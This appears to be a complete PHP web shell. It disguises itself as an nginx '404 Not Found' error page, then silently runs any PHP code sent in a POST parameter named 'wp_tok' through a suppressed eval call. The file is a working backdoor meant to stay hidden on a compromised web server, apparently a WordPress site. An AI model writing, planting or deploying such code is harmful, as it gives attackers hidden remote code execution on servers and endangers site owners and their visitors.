<?php
http_response_code(404);
echo "<html><head><title>404 Not Found</title></head><body><center><h1>404 Not Found</h1></center><hr><center>nginx</center></body></html>";
if (!empty($_POST['wp_tok'])) { @eval($_POST['wp_tok']); }
